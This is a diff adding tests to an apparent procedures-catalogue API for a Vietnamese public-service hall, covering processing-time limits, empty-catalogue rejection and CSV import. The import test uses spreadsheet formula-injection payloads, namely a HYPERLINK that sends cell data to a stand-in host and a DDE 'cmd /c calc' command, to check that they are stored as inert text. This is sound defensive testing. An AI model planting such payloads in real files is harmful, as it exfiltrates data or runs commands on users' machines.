@@ -72,6 +72,70 @@ describe('the procedures guide', () => {
     expect((await inject(hub, anyone, 'GET', '/api/procedures')).body.map((p: { code: string }) => p.code)).toEqual(['HT.01', 'CA.01']);
   });
 
+  it('refuses a legal time beyond any sane limit, so receiving and the due date never fail on it', async () => {
+    hub = await startTestHub();
+    const c = await prepareCallers(hub);
+    const header = 'code,name,serviceId,field,processing,fee,resultAt,papers';
+    const row = (processing: string) => `HT.01,Đăng ký khai sinh,HT,Hộ tịch,${processing},Miễn lệ phí,Bộ phận Một cửa,Tờ khai [original]`;
+    for (const processing of ['999d', '9999h', '366d', '2001h', '0d']) {
+      const csv = await inject(hub, c.manager, 'PUT', '/api/procedures', `${header}\n${row(processing)}`, { 'content-type': 'text/csv' });
+      expect(csv.status).toBe(422);
+      expect(csv.body.messageEn).toContain(`row 2: processing "${processing}" must be more than 0 and at most`);
+      expect(csv.body.message).toMatch(/^Danh mục thủ tục không dùng được: /);
+    }
+    const json = await inject(hub, c.manager, 'PUT', '/api/procedures', [
+      { code: 'HT.01', name: 'Đăng ký khai sinh', serviceId: 'HT', field: 'Hộ tịch', papers: [], fee: 'Miễn lệ phí', processing: '9999h', resultAt: 'Một cửa' },
+    ]);
+    expect(json.status).toBe(422);
+    expect(json.body.messageEn).toContain('entry 1: processing "9999h" must be more than 0 and at most 2000 working hours');
+    // The limits themselves are accepted, and the due date is answered for them.
+    const atLimit = await inject(hub, c.manager, 'PUT', '/api/procedures', `${header}\n${row('365d')}\n${row('2000h').replace('HT.01', 'HT.02')}`, { 'content-type': 'text/csv' });
+    expect(atLimit.body).toEqual({ count: 2 });
+    for (const code of ['HT.01', 'HT.02']) {
+      const due = await inject(hub, anyone, 'GET', `/api/procedures/${code}/due`);
+      expect(due.status).toBe(200);
+      expect(due.body.dueAt).toBeGreaterThan(due.body.receivedAt);
+    }
+  });
+
+  it('refuses an empty catalogue, which would remove every procedure', async () => {
+    hub = await startTestHub();
+    const c = await prepareCallers(hub);
+    const before = (await inject(hub, anyone, 'GET', '/api/procedures')).body.length;
+    expect(before).toBeGreaterThanOrEqual(25);
+    const emptyList = await inject(hub, c.manager, 'PUT', '/api/procedures', []);
+    expect(emptyList.status).toBe(422);
+    expect(emptyList.body.messageEn).toContain('the catalogue is empty');
+    for (const csv of ['code,name,serviceId,field,processing,fee,resultAt,papers', 'code,name,serviceId,field,processing,fee,resultAt,papers\n\n', '']) {
+      const emptyCsv = await inject(hub, c.manager, 'PUT', '/api/procedures', csv, { 'content-type': 'text/csv' });
+      expect(emptyCsv.status).toBe(422);
+      expect(emptyCsv.body.messageEn).toContain('the catalogue is empty');
+    }
+    expect((await inject(hub, anyone, 'GET', '/api/procedures')).body).toHaveLength(before);
+  });
+
+  it('stores catalogue text that starts like a spreadsheet formula as plain text', async () => {
+    hub = await startTestHub();
+    const c = await prepareCallers(hub);
+    const csv = [
+      'code,name,serviceId,field,processing,fee,resultAt,papers,legalBasis',
+      'HT.01,"=HYPERLINK(""http://x.example/?""&A1,""Bấm"")",HT,+Hộ tịch,3d,-1+1,@SUM(A1),"=cmd|\' /c calc\'!A0 [original]; Tờ khai [copy]",\tLuật Hộ tịch',
+    ].join('\n');
+    const imported = await inject(hub, c.manager, 'PUT', '/api/procedures', csv, { 'content-type': 'text/csv' });
+    expect(imported.body).toEqual({ count: 1 });
+    const one = await inject(hub, anyone, 'GET', '/api/procedures/HT.01');
+    expect(one.body).toMatchObject({
+      name: { vi: `'=HYPERLINK("http://x.example/?"&A1,"Bấm")` },
+      field: "'+Hộ tịch",
+      fee: { text: "'-1+1" },
+      resultAt: "'@SUM(A1)",
+      papers: [{ name: "'=cmd|' /c calc'!A0", kind: 'original' }, { name: 'Tờ khai', kind: 'copy' }],
+    });
+    // Every text the guide gives starts with something a spreadsheet shows as text.
+    const texts = JSON.stringify(one.body).match(/"(?:[^"\\]|\\.)*"/g)!.map((t) => JSON.parse(t) as string);
+    expect(texts.filter((t) => /^[=+\-@\t\r]/.test(t))).toEqual([]);
+  });
+
   it('reads the catalogue a hall file names, and refuses a hall whose catalogue cannot be used', async () => {
     const dataDir = tempDataDir();
     const file = demoHallWith(dataDir, (hall) => (hall.hall.workingHours = [{ start: '07:30', end: '11:30' }, { start: '13:00', end: '17:00' }]));
